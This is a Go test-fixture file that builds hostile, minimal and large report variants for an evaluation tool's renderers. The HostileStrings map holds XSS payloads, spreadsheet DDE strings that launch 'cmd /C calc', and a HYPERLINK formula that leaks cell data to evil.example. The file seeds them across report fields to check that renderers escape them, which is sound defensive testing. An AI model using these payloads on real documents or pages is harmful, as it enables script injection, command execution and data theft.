package sample

import (
	"fmt"
	"math"
	"strconv"
	"strings"
	"time"

	"github.com/tally-eval/tally/fixture"
	"github.com/tally-eval/tally/report"
	"github.com/tally-eval/tally/stats"
)

// This file holds the variants of Report: hostile, minimal and large.

// HostileStrings are strings a fixture or a judge could carry that a
// renderer must show as text: markup, spreadsheet formulas (=, +, -, @),
// DDE payloads, and tab- and CR-led text. Keys name them in test output.
var HostileStrings = map[string]string{
	"script":    `<script>alert("tally")</script>`,
	"img":       `"><img src=x onerror=alert(1)>`,
	"hyperlink": `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`,
	"dde":       `+cmd|' /C calc'!A0`,
	"at":        `@SUM(1+1)*cmd|' /C calc'!A0`,
	"minus":     `-2+3+cmd|' /C calc'!A0`,
	"tab":       "\t=1+2 led by a tab",
	"cr":        "\r=1+2 led by a carriage return",
}

// hostileLongLen is the length of the long line Hostile puts in an
// answer: more than a spreadsheet cell holds (32,767 characters).
const hostileLongLen = 40_000

// HostileLong is that line, with markup in it.
var HostileLong = strings.Repeat("a <very> long & line ", hostileLongLen/21+1)[:hostileLongLen]

// Hostile is Report with hostile strings in item literals,
// probes, expected answers and model answers, in the system names, title,
// warnings, a session's reason, a replay conversation and the config
// (with a line that would close the HTML's <pre> around it), and the
// answer HostileLong. The items that carry them are lost by the
// candidate, so that every renderer lists them.
func Hostile() *report.Report {
	r := Report()
	h := HostileStrings
	// Items whose key is lost by the candidate, so the hostile text is
	// on the Lost and Contradicted sheet too.
	lost := map[report.ItemKey]bool{}
	for _, c := range r.Classes {
		for _, k := range c.Lost {
			lost[k] = true
		}
	}
	var at []int
	for i, it := range r.Items {
		if lost[it.ItemKey] {
			at = append(at, i)
		}
	}
	for i := range r.Items {
		if !lost[r.Items[i].ItemKey] {
			at = append(at, i)
		}
	}
	it := func(n int) *report.ItemRow { return &r.Items[at[n]] }
	it(0).Literal = h["script"]
	it(1).Literal = h["img"]
	it(2).Candidate.Answer = h["hyperlink"]
	it(3).Literal = h["dde"]
	it(4).Candidate.Answer = h["at"]
	it(5).Probe = h["tab"]
	it(6).Expect = h["cr"]
	it(7).Literal = h["minus"]
	it(8).Incumbent.Answer = HostileLong
	r.Items[at[len(lost)]].Literal = h["hyperlink"] // not lost: on Items only
	r.Title = h["hyperlink"]
	r.Incumbent = h["script"]
	r.Candidate = h["dde"]
	r.Warnings = append(r.Warnings, "judge said: "+h["img"], h["at"])
	r.Selection.Sessions[0].Reason = h["hyperlink"]
	r.Replay.Discordant[0].ConversationID = h["at"]
	r.Provenance.Config += "# </code></pre>" + h["script"] + "\n" + h["hyperlink"] + "\n"
	return r
}

// Minimal is the report of a first run on little data: no replay,
// no selection, no item rows, no provenance and no timestamp; a class
// without items (NaN shares), a judge error in the candidate's open
// questions, three prompt sizes for the incumbent and none for the
// candidate, and no gate on them.
func Minimal() *report.Report {
	r := Report()
	r.Title, r.Period, r.Replay, r.Selection = "", "", nil, nil
	r.Items, r.Warnings = nil, nil
	r.Provenance = report.Provenance{}
	r.Generated = time.Time{}
	for i := range r.Classes {
		r.Classes[i].Lost, r.Classes[i].Gained = nil, nil
	}
	ref := &r.Classes[3]
	ref.Incumbent = report.SystemClass{Share: math.NaN(), Wilson: stats.Interval{Lower: math.NaN(), Upper: math.NaN()}, Gate: report.Incomplete}
	ref.Candidate = ref.Incumbent
	oq := &r.Classes[2].Candidate
	oq.Counts.Absent--
	oq.Counts.Errors++
	// With an error the share is a range, no point and no interval, and
	// the gate fails when even every error retained falls short: as Build
	// computes them.
	fillClass(oq, nil, r.Classes[2].MinShare, r.Confidence)
	r.Contradictions.New = nil
	r.Prompt = report.PromptRow{Incumbent: report.NewPromptStats([]int{131, 79, 90}), Candidate: report.NewPromptStats(nil)}
	r.Decision = report.Decision{Rule: "no row got worse"}
	return r
}

// Large is Report with n generated item rows, every tenth
// lost by the candidate and every hundredth newly contradicted, for the
// renderers' performance tests and benchmarks.
func Large(n int) *report.Report {
	r := Report()
	items := make([]report.ItemRow, n)
	for i := range r.Classes {
		r.Classes[i].Lost, r.Classes[i].Gained = nil, nil
	}
	r.Contradictions.New = nil
	for i := range items {
		cl := fixture.Classes[i%len(fixture.Classes)]
		it := report.ItemRow{
			ItemKey: report.ItemKey{
				ConversationID: fmt.Sprintf("sess_2026_%02d_%02d_%04x", 1+i/100000, 1+(i/4000)%28, (i/12)&0xffff),
				Compaction:     1 + (i/4)%3,
				ItemID:         "c" + strconv.Itoa(1+i%4),
			},
			Class: cl,
		}
		it.Literal, it.Probe, it.Expect = itemText(cl, i)
		inc, cand := fixture.Verbatim, fixture.Supported
		switch {
		case i%100 == 7:
			cand = fixture.Contradicted
			r.Contradictions.New = append(r.Contradictions.New, it.ItemKey)
		case i%10 == 3:
			cand = fixture.Absent
			r.Classes[i%len(fixture.Classes)].Lost = append(r.Classes[i%len(fixture.Classes)].Lost, it.ItemKey)
		}
		it.Incumbent = record(r.Incumbent, it, inc, i)
		it.Candidate = record(r.Candidate, it, cand, i)
		it.Changed = true
		items[i] = it
	}
	r.Items = items
	return r
}
